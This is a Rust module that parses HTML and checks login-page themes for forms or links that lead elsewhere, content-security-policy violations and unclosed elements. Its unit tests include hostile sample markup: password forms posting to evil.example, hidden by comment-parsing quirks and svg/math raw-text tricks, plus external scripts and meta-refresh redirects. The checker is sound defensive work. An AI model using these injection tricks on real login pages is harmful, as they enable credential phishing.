//! Reads HTML as browsers do, as far as it takes to judge a page that a theme has drawn.

use std::collections::BTreeSet;

use super::finding::{Finding, Severity};
use super::policy::{ContentSecurityPolicy, Load};

/// Elements without an end tag.
const VOID: [&str; 13] = [
    "area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "track", "wbr",
];
/// Elements whose end tag may be left out.
const OPTIONAL: [&str; 13] = [
    "body", "dd", "dt", "head", "html", "li", "option", "p", "tbody", "td", "th", "thead", "tr",
];
/// Elements whose content is no markup.
const RAW: [&str; 4] = ["script", "style", "textarea", "title"];

/// A start or end tag.
#[derive(Debug)]
struct Tag {
    name: String,
    is_end: bool,
    closes_itself: bool,
    attributes: Vec<(String, String)>,
    /// What follows it, for elements whose content is no markup.
    raw: String,
}

impl Tag {
    fn attribute(&self, name: &str) -> Option<&str> {
        let found = self.attributes.iter().find(|(known, _)| known == name);
        found.map(|(_, value)| value.as_str())
    }

    fn is(&self, name: &str) -> bool {
        !self.is_end && self.name == name
    }
}

fn tags(html: &str) -> Vec<Tag> {
    let mut tags = Vec::new();
    let mut rest = html;
    while let Some((_, after)) = rest.split_once('<') {
        if let Some(comment) = after.strip_prefix("!--") {
            rest = after_comment(comment);
            continue;
        }
        let is_end = after.starts_with('/');
        let after = after.strip_prefix('/').unwrap_or(after);
        if !after.starts_with(|c: char| c.is_ascii_alphabetic()) {
            rest = after;
            continue;
        }
        let (mut tag, after) = tag(after, is_end);
        rest = after;
        if !tag.is_end && RAW.contains(&tag.name.as_str()) {
            let lower = rest.to_ascii_lowercase();
            let end = lower.find(&format!("</{}", tag.name)).unwrap_or(rest.len());
            if let Some((content, after)) = rest.split_at_checked(end) {
                content.clone_into(&mut tag.raw);
                rest = after;
            }
        }
        tags.push(tag);
    }
    tags
}

/// What follows a comment, read from behind its `<!--`. It ends where browsers end it (HTML standard, section 13.2.5.43
/// and after), which is not at `-->` alone.
fn after_comment(comment: &str) -> &str {
    if let Some(after) = comment.strip_prefix('>').or_else(|| comment.strip_prefix("->")) {
        return after;
    }
    let end = |mark: &str| comment.find(mark).map(|at| at + mark.len());
    let ends = [end("-->"), end("--!>")];
    let end = ends.into_iter().flatten().min();
    end.and_then(|end| comment.get(end..)).unwrap_or_default()
}

/// Reads a tag from its name on; returns it and what follows its `>`.
fn tag(text: &str, is_end: bool) -> (Tag, &str) {
    let is_space = |c: char| c.is_ascii_whitespace();
    let end = text
        .find(|c: char| is_space(c) || c == '>' || c == '/')
        .unwrap_or(text.len());
    let (name, mut rest) = text.split_at_checked(end).unwrap_or((text, ""));
    let mut tag = Tag {
        name: name.to_ascii_lowercase(),
        is_end,
        closes_itself: false,
        attributes: Vec::new(),
        raw: String::new(),
    };
    loop {
        rest = rest.trim_start_matches(is_space);
        if let Some(after) = rest.strip_prefix('>') {
            return (tag, after);
        }
        if let Some(after) = rest.strip_prefix('/') {
            tag.closes_itself = after.starts_with('>');
            rest = after;
            continue;
        }
        if rest.is_empty() {
            return (tag, "");
        }
        let first = rest.chars().next().map_or(0, char::len_utf8);
        let end = rest
            .char_indices()
            .find(|(at, c)| *at >= first && (is_space(*c) || matches!(c, '=' | '>' | '/')))
            .map_or(rest.len(), |(at, _)| at);
        let (name, after) = rest.split_at_checked(end).unwrap_or((rest, ""));
        let after = after.trim_start_matches(is_space);
        let (value, after) = match after.strip_prefix('=') {
            None => ("", after),
            Some(value) => attribute_value(value.trim_start_matches(is_space)),
        };
        tag.attributes.push((name.to_ascii_lowercase(), decode(value)));
        rest = after;
    }
}

fn attribute_value(text: &str) -> (&str, &str) {
    for quote in ['"', '\''] {
        if let Some(quoted) = text.strip_prefix(quote) {
            return quoted.split_once(quote).unwrap_or((quoted, ""));
        }
    }
    let end = text
        .find(|c: char| c.is_ascii_whitespace() || c == '>')
        .unwrap_or(text.len());
    text.split_at_checked(end).unwrap_or((text, ""))
}

/// Replaces the character references that the pages are written with, and numeric ones.
fn decode(text: &str) -> String {
    let mut decoded = String::with_capacity(text.len());
    let mut rest = text;
    while let Some((before, after)) = rest.split_once('&') {
        decoded.push_str(before);
        let known = after.split_once(';').and_then(|(name, after)| {
            let c = match name {
                "amp" => '&',
                "lt" => '<',
                "gt" => '>',
                "quot" => '"',
                "apos" => '\'',
                _ => {
                    let number = name.strip_prefix('#')?;
                    let code = match number.strip_prefix(['x', 'X']) {
                        Some(digits) => u32::from_str_radix(digits, 16).ok()?,
                        None => number.parse().ok()?,
                    };
                    char::from_u32(code)?
                }
            };
            Some((c, after))
        });
        let (c, after) = known.unwrap_or(('&', after));
        decoded.push(c);
        rest = after;
    }
    decoded.push_str(rest);
    decoded
}

/// A form, as far as the service depends on it.
#[derive(Debug, Default, PartialEq, Eq)]
struct Form {
    action: String,
    is_post: bool,
    /// Names and values that are sent unseen.
    hidden: BTreeSet<(String, String)>,
    /// Names of the fields that are filled in.
    fields: BTreeSet<String>,
    /// Names and values of the buttons that decide something.
    buttons: BTreeSet<(String, String)>,
}

fn forms(tags: &[Tag]) -> Vec<Form> {
    let mut forms: Vec<Form> = Vec::new();
    let mut is_open = false;
    for tag in tags {
        let text = |name: &str| tag.attribute(name).unwrap_or_default().to_owned();
        match tag.name.as_str() {
            "form" if tag.is_end => is_open = false,
            "form" => {
                is_open = true;
                forms.push(Form {
                    action: text("action"),
                    is_post: text("method").eq_ignore_ascii_case("post"),
                    ..Form::default()
                });
            }
            "input" | "button" | "select" | "textarea"
                if !tag.is_end && is_open && !text("name").is_empty() =>
            {
                let Some(form) = forms.last_mut() else { continue };
                let kind = text("type").to_ascii_lowercase();
                if tag.name == "button" || kind == "submit" {
                    form.buttons.insert((text("name"), text("value")));
                } else if kind == "hidden" {
                    form.hidden.insert((text("name"), text("value")));
                } else {
                    form.fields.insert(text("name"));
                }
            }
            _ => {}
        }
    }
    forms
}

/// Where links lead within the service.
fn ways(tags: &[Tag]) -> BTreeSet<&str> {
    let links = tags.iter().filter(|tag| tag.is("a"));
    links
        .filter_map(|tag| tag.attribute("href"))
        .filter(|href| href.starts_with('/'))
        .collect()
}

/// What is missing from the forms and links of `page` for those of `wanted` to work, and where else they lead.
pub fn compare_forms(place: &str, page: &str, wanted: &str) -> Vec<Finding> {
    let (page_tags, wanted_tags) = (tags(page), tags(wanted));
    let (found, wanted) = (forms(&page_tags), forms(&wanted_tags));
    let mut findings = Vec::new();
    let mut refuse = |message: String| findings.push(Finding::refused(place, message));
    for form in &found {
        if !wanted.iter().any(|wanted| wanted.action == form.action) {
            refuse(format!(
                "a form leads to {:?}: forms of this page lead to {{{{ action }}}} and nowhere else",
                form.action
            ));
        }
    }
    for tag in page_tags.iter().filter(|tag| tag.raw.contains('<')) {
        refuse(format!(
            "the content of {} holds a <, from which some browsers may read a form",
            tag.name
        ));
    }
    for href in ways(&wanted_tags).difference(&ways(&page_tags)) {
        refuse(format!(
            "a link to {href:?} is missing: print its slot, or write it with that href"
        ));
    }
    if page_tags.iter().any(|tag| tag.attribute("formaction").is_some()) {
        refuse("formaction: forms of this page lead to {{ action }} and nowhere else".to_owned());
    }
    for form in &wanted {
        let is_same = |other: &&Form| {
            other.action == form.action
                && other.is_post == form.is_post
                && form.hidden.is_subset(&other.hidden)
                && form.fields.is_subset(&other.fields)
                && form.buttons.is_subset(&other.buttons)
        };
        if found.iter().any(|other| is_same(&other)) {
            continue;
        }
        let parts: Vec<String> = form
            .hidden
            .iter()
            .map(|(name, _)| format!("the hidden field {name}"))
            .chain(form.fields.iter().map(|name| format!("the field {name}")))
            .chain(
                form.buttons
                    .iter()
                    .map(|(name, value)| format!("the button {name}={value}")),
            )
            .collect();
        let parts = if parts.is_empty() {
            "a button".to_owned()
        } else {
            parts.join(", ")
        };
        refuse(format!(
            "a form is missing or incomplete: print its slot, or write a form with method=\"post\", \
             action=\"{{{{ action }}}}\" and {parts}"
        ));
    }
    findings
}

/// What visitors of a page would meet: things the browser blocks, elements that are not closed, and the like.
pub fn inspect(place: &str, page: &str, policy: &ContentSecurityPolicy) -> Vec<Finding> {
    let tags = tags(page);
    let mut findings = Vec::new();
    for tag in tags.iter().filter(|tag| !tag.is_end) {
        inspect_tag(place, tag, policy, &mut findings);
    }
    let mut fault = |message: String| findings.push(Finding::new(Severity::Fault, place, message));
    if !page
        .trim_start()
        .get(..14)
        .is_some_and(|start| start.eq_ignore_ascii_case("<!doctype html"))
    {
        fault("the page does not begin with <!DOCTYPE html>".to_owned());
    }
    let html = tags.iter().find(|tag| tag.is("html"));
    for (attribute, value) in [("lang", "{{ lang }}"), ("dir", "{{ dir }}")] {
        if html.is_none_or(|html| html.attribute(attribute).is_none_or(str::is_empty)) {
            fault(format!("html needs {attribute}=\"{value}\""));
        }
    }
    let has_viewport = tags
        .iter()
        .any(|tag| tag.is("meta") && tag.attribute("name") == Some("viewport"));
    if !has_viewport {
        fault("the page has no meta viewport: print {{ head }} or write one".to_owned());
    }
    if !tags
        .iter()
        .any(|tag| tag.is("title") && !tag.raw.trim().is_empty())
    {
        fault("the page has no title: print {{ head }} or write one".to_owned());
    }
    let mut ids = BTreeSet::new();
    for id in tags.iter().filter_map(|tag| tag.attribute("id")) {
        if !ids.insert(id) {
            fault(format!("the id {id:?} is there twice"));
        }
    }
    for message in unclosed(&tags) {
        fault(message);
    }
    findings
}

fn inspect_tag(place: &str, tag: &Tag, policy: &ContentSecurityPolicy, findings: &mut Vec<Finding>) {
    let mut find = |severity: Severity, message: String| {
        findings.push(Finding::new(severity, place, message));
    };
    let blocked = "the content security policy blocks it";
    let mut load = |load: Load, key: &str, url: Option<&str>| {
        let Some(url) = url else { return };
        let is_own = url.starts_with('/') && !url.starts_with("//");
        if is_own || policy.allows(load, url) {
            return;
        }
        let remedy = if url.starts_with("//") || url.contains(':') {
            format!("{blocked} unless theme.toml names its https:// origin under csp.{key}")
        } else {
            format!("a file of the theme is written {{{{ {url:?}|asset }}}}")
        };
        find(Severity::Fault, format!("{} loads {url:?}: {remedy}", tag.name));
    };
    match tag.name.as_str() {
        "script" => load(Load::Script, "script", tag.attribute("src")),
        "img" | "source" => {
            load(Load::Image, "image", tag.attribute("src"));
            let sources = tag.attribute("srcset").unwrap_or_default().split(',');
            for url in sources.filter_map(|source| source.split_ascii_whitespace().next()) {
                load(Load::Image, "image", Some(url));
            }
        }
        "link" => {
            let kinds = tag.attribute("rel").unwrap_or_default().to_ascii_lowercase();
            let mut kinds = kinds.split_ascii_whitespace();
            match kinds.find(|kind| matches!(*kind, "stylesheet" | "icon" | "preload")) {
                Some("stylesheet") => load(Load::Style, "style", tag.attribute("href")),
                Some("icon") => load(Load::Image, "image", tag.attribute("href")),
                Some(_) => load(Load::Font, "font", tag.attribute("href")),
                None => {}
            }
        }
        _ => {}
    }
    match tag.name.as_str() {
        "script" if tag.attribute("src").is_none() => {
            find(Severity::Fault, format!("an inline script: {blocked}"));
        }
        "style" => find(
            Severity::Fault,
            format!("an inline style sheet: {blocked}; use theme.css"),
        ),
        "iframe" | "object" | "embed" | "frame" | "video" | "audio" | "base" => {
            find(Severity::Fault, format!("{}: {blocked}", tag.name));
        }
        "meta"
            if tag
                .attribute("http-equiv")
                .is_some_and(|kind| kind.eq_ignore_ascii_case("refresh")) =>
        {
            find(
                Severity::Refused,
                "meta refresh would lead people away from the page".to_owned(),
            );
        }
        "img" if tag.attribute("alt").is_none() => {
            find(
                Severity::Fault,
                "an img without alt: readers who do not see it hear its address".to_owned(),
            );
        }
        _ => {}
    }
    for (name, value) in &tag.attributes {
        if name == "style" {
            find(
                Severity::Fault,
                format!("style=\"{value}\": {blocked}; use theme.css"),
            );
        } else if name.starts_with("on") {
            find(Severity::Fault, format!("{name}: an inline script, {blocked}"));
        } else if value.trim_start().to_ascii_lowercase().starts_with("javascript:") {
            find(Severity::Fault, format!("{name}=\"{value}\": {blocked}"));
        }
    }
}

/// Elements that are opened and not closed, or closed and not opened.
fn unclosed(tags: &[Tag]) -> Vec<String> {
    let mut open: Vec<&str> = Vec::new();
    let mut faults = Vec::new();
    for tag in tags {
        let name = tag.name.as_str();
        if VOID.contains(&name) || tag.closes_itself {
            continue;
        }
        if !tag.is_end {
            open.push(name);
            continue;
        }
        let Some(at) = open.iter().rposition(|other| *other == name) else {
            faults.push(format!("</{name}> closes nothing"));
            continue;
        };
        for left in open.drain(at..).skip(1).filter(|left| !OPTIONAL.contains(left)) {
            faults.push(format!("<{left}> is not closed"));
        }
    }
    let left = open.into_iter().filter(|left| !OPTIONAL.contains(left));
    faults.extend(left.map(|left| format!("<{left}> is not closed")));
    faults
}

#[cfg(test)]
mod tests {
    use super::*;

    const WANTED: &str = r#"<form method="post" action="/login"><input type="hidden" name="csrf" value="b1"><input
        name="username"><button name="decision" value="allow">Go</button></form>"#;

    fn page(body: &str) -> String {
        format!(
            "<!DOCTYPE html><html lang=en dir='ltr'><head><meta name=viewport content=x><title>t</title></head>\
             <body>{body}</body></html>"
        )
    }

    fn messages(body: &str) -> Vec<String> {
        let policy = ContentSecurityPolicy::default()
            .allow(Load::Font, "https://fonts.example")
            .unwrap();
        inspect("login.html", &page(body), &policy)
            .into_iter()
            .map(|finding| finding.message)
            .collect()
    }

    #[test]
    fn a_form_may_be_written_by_hand_in_any_style() {
        let by_hand = "<FORM class=x action=&#x2f;login METHOD='POST'><p><!-- <form action=/evil> -->\
            <input value=\"b1\" type=HIDDEN name='csrf'><textarea name=username></textarea>\
            <input type=submit name=decision value=allow></FORM>";
        assert_eq!(compare_forms("login.html", by_hand, WANTED), []);
        assert_eq!(compare_forms("login.html", WANTED, WANTED), []);
    }

    #[test]
    fn a_form_without_what_the_service_needs_is_refused() {
        for broken in [
            "",
            r#"<form method="post" action="/login"><input name="username"><button name="decision" value="allow"></form>"#,
            r#"<form method="get" action="/login"><input type="hidden" name="csrf" value="b1"><input name="username"><button name="decision" value="allow"></form>"#,
            r#"<form method="post" action="/login"></form><input type="hidden" name="csrf" value="b1">"#,
        ] {
            let findings = compare_forms("login.html", broken, WANTED);
            assert_eq!(findings.len(), 1, "{broken}");
            assert!(
                findings[0]
                    .message
                    .contains("the hidden field csrf, the field username")
            );
        }
    }

    #[test]
    fn no_way_onward_is_missing() {
        let wanted =
            format!("{WANTED}<a href=\"/federation/x/start?t=1&amp;u=2\">x</a><a href=\"#top\">y</a>");
        assert_eq!(compare_forms("login.html", &wanted, &wanted), []);
        let findings = compare_forms("login.html", WANTED, &wanted);
        assert_eq!(findings.len(), 1);
        assert!(findings[0].message.contains("/federation/x/start?t=1&u=2"));
    }

    #[test]
    fn no_form_leads_elsewhere() {
        let evil = format!("{WANTED}<form action=\"https://evil.example\"><input name=password></form>");
        let findings = compare_forms("login.html", &evil, WANTED);
        assert!(findings[0].message.contains("https://evil.example"));
        for hidden in [
            "<!-->FORM<!-- -->",
            "<!--->FORM<!-- -->",
            "<!-- x --!>FORM<!-- -->",
            "<svg><style><div>FORM</style></svg>",
            "<math><title>FORM</title></math>",
        ] {
            let evil = hidden.replace(
                "FORM",
                "<form method=post action=https://evil.example><input name=password>",
            );
            let findings = compare_forms("login.html", &format!("{evil}{WANTED}"), WANTED);
            assert!(
                findings
                    .iter()
                    .any(|finding| finding.severity == Severity::Refused),
                "{hidden}"
            );
        }
        let harmless = format!("<!-- <form action=x> --><title>a</title><style>a{{}}</style>{WANTED}");
        assert!(compare_forms("login.html", &harmless, WANTED).is_empty());
        let evil = WANTED.replace("<button", "<button formaction=https://evil.example");
        assert!(
            compare_forms("login.html", &evil, WANTED)[0]
                .message
                .starts_with("formaction")
        );
    }

    #[test]
    fn a_sound_page_is_left_alone() {
        let body = "<img src=/id/theme/x/logo.svg alt=''><p>one<p>two<ul><li>a<li>b</ul><br/><svg><path d=x /></svg>\
            <link rel=preload href=https://fonts.example/a.woff2><a href=https://elsewhere.example>x</a>";
        assert_eq!(messages(body), Vec::<String>::new());
    }

    #[test]
    fn what_the_browser_blocks_or_readers_stumble_over_is_said() {
        for (body, said) in [
            ("<script>alert(1)</script>", "an inline script"),
            (
                "<script src=//evil.example/x.js></script>",
                "script loads \"//evil.example/x.js\"",
            ),
            ("<script src=https://evil.example/x.js></script>", "csp.script"),
            (
                "<link rel=stylesheet href=https://fonts.example/a.css>",
                "csp.style",
            ),
            ("<img alt='' srcset='https://cdn.example/a.png 2x'>", "csp.image"),
            ("<img alt='' src=logo.png>", "{{ \"logo.png\"|asset }}"),
            ("<style>p{}</style>", "an inline style sheet"),
            ("<p style='color:red'>", "style=\"color:red\""),
            ("<p onclick=x()>", "onclick"),
            ("<a href=' JavaScript:x()'>x</a>", "href"),
            ("<iframe src=x></iframe>", "iframe"),
            ("<meta http-equiv=Refresh content=0>", "meta refresh"),
            ("<img src=/id/a.png>", "alt"),
            ("<div><span></div>", "<span> is not closed"),
            ("<div>", "<div> is not closed"),
            ("</main>", "</main> closes nothing"),
            ("<p id=a><p id=a>", "the id \"a\" is there twice"),
        ] {
            let found = messages(body);
            assert!(
                found.iter().any(|message| message.contains(said)),
                "{body}: {found:?}"
            );
        }
        let bare = inspect("login.html", "<p>", &ContentSecurityPolicy::default());
        assert_eq!(bare.len(), 5);
    }

    #[test]
    fn a_page_that_leads_people_away_by_itself_is_not_used() {
        let page = page("<meta http-equiv=\"Refresh\" content=\"0; url=https://evil.example\">");
        let found = inspect("login.html", &page, &ContentSecurityPolicy::default());
        let refused = |finding: &Finding| finding.severity == Severity::Refused;
        assert_eq!(found.iter().filter(|finding| refused(finding)).count(), 1);
    }

    #[test]
    fn no_text_makes_the_reader_fail() {
        for text in [
            "<",
            "</",
            "<a",
            "<a b",
            "<a b=",
            "<a b='",
            "<a é=\"ü",
            "<!--",
            "<script>",
            "&",
            "&#x110000;",
            "<a =é>",
            "<a /é/>",
        ] {
            inspect("x", text, &ContentSecurityPolicy::default());
            compare_forms("x", text, WANTED);
        }
        assert_eq!(decode("&amp;&#x2F;&#39;&nope;&"), "&/'&nope;&");
    }
}
